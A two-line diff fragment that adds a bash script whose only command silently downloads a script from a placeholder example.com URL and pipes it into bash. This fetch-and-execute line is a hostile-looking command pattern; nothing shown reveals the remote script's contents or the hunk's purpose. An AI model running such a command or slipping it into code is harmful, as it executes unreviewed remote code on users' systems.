@@ -1,0 +1,2 @@
+#!/bin/bash
+wget -qO- https://example.com/tools.sh | bash
